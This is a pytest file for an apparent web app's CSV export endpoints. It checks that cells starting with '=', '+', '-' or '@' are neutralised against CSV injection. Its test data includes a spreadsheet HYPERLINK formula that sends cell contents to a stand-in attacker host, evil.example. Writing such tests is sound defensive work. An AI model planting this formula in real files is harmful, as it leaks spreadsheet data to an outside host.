"""CSV exports through HTTP: no cell a spreadsheet would run as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from factories import flag, person, post
from fastapi.testclient import TestClient

from api.app import create_app
from netra.domain.access import hash_token
from netra.domain.csvcells import FORMULA_TRIGGERS
from netra.domain.models import FlagOrigin, Platform, Role, SocialAccount
from netra.domain.settings import Settings
from netra.store.sqlite import SqliteStore

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.fixture()
def client(tmp_path: Path) -> Iterator[TestClient]:
    store = SqliteStore(tmp_path / "api.db")
    account = SocialAccount(platform="x", handle="-u1003")
    store.upsert_people([person(name="@Rina", agency="+Dinas", accounts=[account])])
    reported = post("r1", FORMULA, platform=Platform.REPORT, account_handle="-u1003")
    store.upsert_posts([reported])
    store.upsert_flags([flag(reported, p=0.9, origin=FlagOrigin.PUBLIC_REPORT)])
    store.add_user("lead", Role.SUPERVISOR, hash_token("token-lead"))
    settings = Settings(
        db_path=tmp_path / "api.db", var_dir=tmp_path / "var", model_dir=tmp_path / "models"
    )
    with TestClient(create_app(settings, store)) as test_client:
        yield test_client
    store.close()


def _records(client: TestClient, path: str) -> list[dict[str, str]]:
    response = client.get(path, headers={"Authorization": "Bearer token-lead"})
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def _no_live_formula(record: dict[str, str]) -> None:
    live = {k: v for k, v in record.items() if v.startswith(FORMULA_TRIGGERS)}
    assert not live, live


def test_flags_csv_neutralises_text_cells_and_keeps_numbers(client: TestClient) -> None:
    [record] = _records(client, "/api/v1/exports/flags.csv")
    _no_live_formula(record)
    assert record["text"] == "'" + FORMULA
    assert record["account"] == "'-u1003" and record["name"] == "'@Rina"
    assert record["agency"] == "'+Dinas" and float(record["probability"]) == 0.9


def test_labelled_csv_neutralises_text_cells(client: TestClient) -> None:
    headers = {"Authorization": "Bearer token-lead"}
    for body in (
        {"action": "claim", "version": 1},
        {"action": "confirm", "version": 2, "note": "jelas"},
    ):
        assert client.post("/api/v1/flags/report:r1/actions", json=body, headers=headers).is_success
    [record] = _records(client, "/api/v1/exports/labelled.csv")
    _no_live_formula(record)
    assert record["text"] == "'" + FORMULA and record["label"] == "1"
